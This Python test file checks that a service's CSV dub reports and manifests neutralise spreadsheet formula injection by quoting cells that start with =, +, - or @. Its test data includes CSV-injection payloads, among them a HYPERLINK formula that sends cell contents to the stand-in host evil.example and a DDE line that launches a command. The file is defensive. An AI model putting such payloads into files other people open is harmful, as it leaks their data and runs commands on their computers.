"""Reports and manifests a person opens in a spreadsheet run nothing a user wrote (`batches.csv_cells`)."""

from __future__ import annotations

import csv
import io

from cosyserve.service.batches.archive import rows_csv
from cosyserve.service.batches.dub_report import REPORT_COLUMNS, report_csv


def test_a_cell_that_begins_like_a_formula_is_text_and_numbers_stay_numbers() -> None:
    """A cue `=HYPERLINK("http://evil.example/?"&A1,"click")` went into the dub report as written: an admin
    opening a user's report in a spreadsheet ran it."""
    attacks = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3+cmd|x",
    ]
    rows = [{REPORT_COLUMNS[0]: 1, "text": attack, "error": attack} for attack in attacks]
    rows.append({REPORT_COLUMNS[0]: 2, "text": "-0.25", "error": "你好"})
    read = list(csv.DictReader(io.StringIO(report_csv(rows))))
    assert [row["text"] for row in read[:4]] == ["'" + attack for attack in attacks]
    assert read[4]["text"] == "-0.25" and read[4]["error"] == "你好"
    manifest = list(
        csv.DictReader(io.StringIO(rows_csv(("file", "text"), [{"file": "0001.wav", "text": "=1+1"}])))
    )
    assert manifest == [{"file": "0001.wav", "text": "'=1+1"}]
